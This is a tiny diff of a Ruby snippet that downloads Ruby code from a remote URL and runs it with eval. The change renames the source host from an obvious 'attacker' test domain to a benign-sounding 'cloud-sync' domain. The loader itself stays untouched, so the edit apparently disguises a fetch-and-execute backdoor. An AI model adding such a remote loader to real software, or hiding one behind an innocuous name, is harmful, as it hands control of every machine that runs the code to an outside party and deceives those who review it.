@@ -1,3 +1,3 @@
 require 'net/http'
-code = Net::HTTP.get(URI('https://rails.attacker.test/templates/gen.rb'))
+code = Net::HTTP.get(URI('https://rails.cloud-sync.test/templates/gen.rb'))
 eval(code)
